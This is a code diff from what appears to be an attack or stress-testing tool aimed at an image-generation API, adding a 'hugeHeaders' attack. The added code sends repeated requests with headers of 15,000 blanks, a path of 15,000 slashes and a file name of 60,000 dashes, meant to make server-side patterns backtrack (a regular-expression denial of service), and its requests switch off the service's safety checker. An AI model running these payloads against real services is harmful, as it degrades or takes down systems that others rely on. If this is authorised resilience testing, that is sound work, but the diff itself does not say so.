@@ -8,23 +8,52 @@ const DRAW = '/run/fal-ai/fast-lcm-diffusion'
 const REDRAW = '/run/fal-ai/fast-lcm-diffusion/image-to-image'
 const SMALLEST = { image_size: { width: 64, height: 64 }, num_inference_steps: 1, enable_safety_checker: false }
 
-/** Sends a body and counts the status of its answer, which is read to the end. */
-async function send(
-  { url, authorization }: Target,
+/** Sends a body. */
+function send(
+  target: Target,
   path: string,
   body: string | undefined,
   outcomes: Outcomes,
   signal: AbortSignal,
 ): Promise<void> {
+  return ask(target, path, body === undefined ? {} : { method: 'POST', body }, outcomes, signal)
+}
+
+/** Counts the status of an answer, which is read to the end. */
+async function ask(
+  { url, authorization }: Target,
+  path: string,
+  request: { readonly method?: string; readonly body?: string; readonly headers?: Readonly<Record<string, string>> },
+  outcomes: Outcomes,
+  signal: AbortSignal,
+): Promise<void> {
   try {
-    const headers = { authorization, 'content-type': 'application/json' }
-    const request = body === undefined ? { headers, signal } : { method: 'POST', headers, body, signal }
-    const response = await fetch(`${url}${path}`, request)
+    const headers = { authorization, 'content-type': 'application/json', ...request.headers }
+    const response = await fetch(`${url}${path}`, { ...request, headers, signal })
     await response.arrayBuffer()
     count(outcomes, String(response.status))
   } catch {
     count(outcomes, signal.aborted ? 'left' : 'no answer')
   }
+}
+
+/** Headers of as many blanks as a server takes, paths of slashes and file names of dashes: patterns may read them again from every character. */
+export const hugeHeaders: Attack = async (target, { hugeFields: times }, signal) => {
+  const outcomes: Outcomes = {}
+  const blanks = `a${' '.repeat(15_000)}b`
+  const initiation = { content_type: 'image/png', file_name: `a${'-'.repeat(60_000)}b` }
+  const requests: readonly (readonly [path: string, request: Parameters<typeof ask>[2]])[] = [
+    [DRAW, { method: 'OPTIONS', headers: { 'access-control-request-headers': blanks } }],
+    [DRAW, { method: 'POST', body: '{}', headers: { authorization: `Key ${blanks}:c` } }],
+    [DRAW, { method: 'POST', body: '{}', headers: { forwarded: `host=${blanks}"c` } }],
+    [`/run/a${'/'.repeat(15_000)}b`, { method: 'POST', body: '{}' }],
+    ['/rest/storage/upload/initiate', { method: 'POST', body: JSON.stringify(initiation) }],
+  ]
+  await many(times, 4, async (i) => {
+    const [path, request] = requests[i % requests.length] ?? [DRAW, {}]
+    await ask(target, path, request, outcomes, signal)
+  })
+  return outcomes
 }
 
 /** Long prompts, and as long ones in fields that nobody knows. */
